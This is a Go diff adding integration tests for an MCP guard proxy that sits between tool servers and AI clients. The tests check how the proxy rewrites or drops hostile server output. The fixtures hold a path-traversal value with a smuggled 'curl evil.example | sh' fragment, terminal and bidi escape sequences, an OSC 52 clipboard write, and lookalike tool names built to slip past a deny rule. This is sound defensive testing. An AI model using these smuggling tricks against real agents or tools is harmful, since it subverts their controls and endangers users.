@@ -2,7 +2,10 @@ package integration
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -155,5 +158,110 @@ func TestGuardedHostileOutput(t *testing.T) {
 	}
 	if !strings.Contains(strings.Join(o.texts["tools/list"], "\n"), "Returns its text.") {
 		t.Errorf("tool descriptions lost their ordinary text")
+	}
+}
+
+// TestGuardedEgressRulesSeeCanonicalNames: the egress rules select on the
+// member names the client reads. testserver's hostile_names returns
+// structuredContent whose names hold NUL, U+202E, an SGR escape, a tag
+// character and a zero-width space; each reads as a name a rule selects,
+// and each value must arrive rewritten by that rule. Before the fix the
+// selectors missed the raw names and text then turned them into the
+// selected names, values untouched.
+func TestGuardedEgressRulesSeeCanonicalNames(t *testing.T) {
+	policyFile := writePolicy(t, `version: 1
+egress:
+  - tools: [hostile_names]
+    fields: [structuredContent.file, structuredContent.path]
+    canonicalise: path
+  - tools: [hostile_names]
+    fields: [structuredContent.summary, structuredContent.note]
+    canonicalise: free_text
+`)
+	logFile := filepath.Join(t.TempDir(), "mcpguard.log")
+	p := startGuardedRaw(t, &guardOpts{Policy: policyFile, Log: logFile}, testserverBin)
+	p.initialize()
+	p.sendWait(callLine(1, "hostile_names", map[string]any{}))
+	m, _ := p.expect("1", 30*time.Second)
+	var r struct {
+		StructuredContent map[string]string `json:"structuredContent"`
+	}
+	if m.Error != nil || json.Unmarshal(m.Result, &r) != nil {
+		t.Fatalf("hostile_names: %s", truncate(string(m.raw), 500))
+	}
+	want := map[string]string{
+		"file":    "../../etc/passwd????curl?evil.example?sh?",
+		"path":    "/tmp/x?y",
+		"summary": "line1 line2",
+		"note":    "a'b'",
+	}
+	if fmt.Sprint(r.StructuredContent) != fmt.Sprint(want) {
+		t.Errorf("structuredContent through mcpguard:\n got %q\nwant %q", r.StructuredContent, want)
+	}
+	if _, err := p.closeAndWait(10 * time.Second); err != nil {
+		t.Fatal(err)
+	}
+	log, _ := os.ReadFile(logFile)
+	if !strings.Contains(string(log), `(member name)`) || !strings.Contains(string(log), `"canonicaliser":"path"`) {
+		t.Errorf("the log does not say which names and values were rewritten:\n%s", truncate(string(log), 3000))
+	}
+}
+
+// TestGuardedHostileRoutingRefused: a server→client request whose id is
+// an OSC 52 clipboard write with a bidi override, and a notification
+// whose method holds ESC and U+202E, never reach the client (the SDK
+// hands both to application code); a plain notification sent between
+// them does, and so does the tool's reply.
+func TestGuardedHostileRoutingRefused(t *testing.T) {
+	logFile := filepath.Join(t.TempDir(), "mcpguard.log")
+	p := startGuardedRaw(t, &guardOpts{Log: logFile}, testserverBin)
+	p.initialize()
+	p.sendWait(callLine(1, "hostile_routing", map[string]any{}))
+	m, skipped := p.expect("1", 30*time.Second)
+	if m.Error != nil {
+		t.Fatalf("hostile_routing: %s", m.raw)
+	}
+	plain := 0
+	for _, s := range skipped {
+		if strings.ContainsAny(string(s.raw), "\x1b\u202e") || strings.Contains(string(s.raw), `\u001b`) || strings.Contains(string(s.raw), `\u202e`) {
+			t.Errorf("a hostile server message reached the client: %s", s.raw)
+		}
+		if s.Method == "notifications/message" {
+			plain++
+		}
+	}
+	if plain != 1 {
+		t.Errorf("the plain notification arrived %d times, want 1", plain)
+	}
+	if _, err := p.closeAndWait(10 * time.Second); err != nil {
+		t.Fatal(err)
+	}
+	log, _ := os.ReadFile(logFile)
+	if n := strings.Count(string(log), `"event":"dropped"`); n != 2 {
+		t.Errorf("%d dropped events in the log, want 2:\n%s", n, truncate(string(log), 3000))
+	}
+}
+
+// TestGuardedLookalikeToolNames: with wipe: deny, a server that lists
+// wi\u202epe (which the client reads as wipe) has it hidden, and a
+// server that lists echo twice (echo and ec\u200bho) has its list refused.
+func TestGuardedLookalikeToolNames(t *testing.T) {
+	policyFile := writePolicy(t, "version: 1\ntools:\n  wipe: deny\n")
+	cs := connectGuarded(t, &guardOpts{Policy: policyFile}, testserverBin, "-lookalike", "wipe")
+	list, err := cs.ListTools(context.Background(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tool := range list.Tools {
+		if strings.Contains(tool.Name, "wi") && strings.Contains(tool.Name, "pe") {
+			t.Errorf("the denied wipe reached the client as %q", tool.Name)
+		}
+	}
+	if len(list.Tools) == 0 {
+		t.Error("no tools listed")
+	}
+	cs = connectGuarded(t, &guardOpts{Policy: policyFile}, testserverBin, "-lookalike", "echo")
+	if list, err := cs.ListTools(context.Background(), nil); err == nil {
+		t.Errorf("a list with echo twice (once as ec\\u200bho) was relayed: %d tools", len(list.Tools))
 	}
 }
